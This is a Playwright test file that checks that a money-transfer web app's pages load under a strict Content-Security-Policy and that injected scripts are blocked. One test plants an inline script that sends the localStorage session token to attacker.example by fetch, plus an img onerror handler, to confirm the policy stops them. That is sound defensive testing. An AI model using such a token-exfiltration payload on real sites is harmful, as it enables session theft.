import { expect, test } from '@mizani/e2e';
import type { Page, Response } from '@playwright/test';
import { startDemoSession } from './support/home-accounts.ts';

// The session token lives in localStorage, so the Content-Security-Policy is what stops an
// injected script from taking it. The real apps, built and served by the real server, must load
// under that policy without a single violation, and an injected inline script must not run.

declare global {
  interface Window {
    __cspViolations?: string[];
    __injected?: boolean;
  }
}

/** Records every CSP violation the page reports, from the first script on. */
async function watchViolations(page: Page): Promise<string[]> {
  const logged: string[] = [];
  page.on('console', (message) => {
    const text = message.text();
    if (/Content Security Policy|Refused to (execute|load|apply|connect|frame)/i.test(text)) logged.push(text);
  });
  await page.addInitScript(() => {
    window.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      window.__cspViolations!.push(`${event.violatedDirective} blocked ${event.blockedURI || '(inline)'}`);
    });
  });
  return logged;
}

const violationsOf = (page: Page) => page.evaluate(() => window.__cspViolations ?? []);

function expectStrictPolicy(response: Response | null, where: string) {
  expect(response, where).not.toBeNull();
  const headers = response!.headers();
  const policy = headers['content-security-policy'] ?? '';
  for (const directive of ["default-src 'self'", "script-src 'self'", "object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'"]) {
    expect(policy, `${where}: ${directive}`).toContain(directive);
  }
  expect(policy, where).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline/);
  expect(headers['x-content-type-options'], where).toBe('nosniff');
  expect(headers['referrer-policy'], where).toBeTruthy();
}

const PUBLIC_PAGES = [
  { path: '/', heading: 'Send money home and across borders in minutes' },
  { path: '/aboutUs', heading: 'Moving money across East Africa, fairly and in the open' },
];

test.describe('Content-Security-Policy on the real apps', () => {
  for (const { path, heading } of PUBLIC_PAGES) {
    test(`public page ${path}: strict policy, rendered, no violation`, async ({ page }) => {
      const logged = await watchViolations(page);
      const response = await page.goto(path);
      expectStrictPolicy(response, path);
      await expect(page.getByRole('heading', { level: 1, name: heading })).toBeVisible();
      expect(await violationsOf(page)).toEqual([]);
      expect(logged).toEqual([]);
    });
  }

  test('the signed-in portal loads its dashboard under the policy', async ({ page, request }) => {
    const logged = await watchViolations(page);
    await startDemoSession(page, request);
    const response = await page.goto('/home/dashboard');
    expectStrictPolicy(response, '/home/dashboard');
    await expect(page.getByRole('main')).toBeVisible();
    await page.waitForLoadState('networkidle');
    expect(await violationsOf(page)).toEqual([]);
    expect(logged).toEqual([]);
  });

  test('the developer console loads under the policy', async ({ page, request }) => {
    const logged = await watchViolations(page);
    await startDemoSession(page, request);
    const response = await page.goto('/homeApi/');
    expectStrictPolicy(response, '/homeApi/');
    await page.waitForLoadState('networkidle');
    await expect(page.locator('#root')).not.toBeEmpty();
    expect(await violationsOf(page)).toEqual([]);
    expect(logged).toEqual([]);
  });

  test('an unknown address (the app 404) carries the policy too', async ({ page }) => {
    const response = await page.goto('/no/such/page');
    expectStrictPolicy(response, '/no/such/page');
  });

  test('an injected inline script does not run and cannot read the token', async ({ page, request }) => {
    await watchViolations(page);
    await startDemoSession(page, request);
    await page.goto('/home/dashboard');
    await expect(page.getByRole('main')).toBeVisible();
    await page.evaluate(() => {
      // What an HTML-injection bug would let an attacker write into the page.
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true; fetch("https://attacker.example/?t=" + localStorage.getItem("token"));';
      document.body.appendChild(script);
      const img = document.createElement('img');
      img.setAttribute('src', 'x');
      img.setAttribute('onerror', 'window.__injected = true');
      document.body.appendChild(img);
    });
    await expect.poll(() => violationsOf(page)).not.toEqual([]);
    expect(await page.evaluate(() => window.__injected ?? false)).toBe(false);
    const violations = await violationsOf(page);
    expect(violations.every((v) => v.startsWith('script-src'))).toBe(true);
  });
});
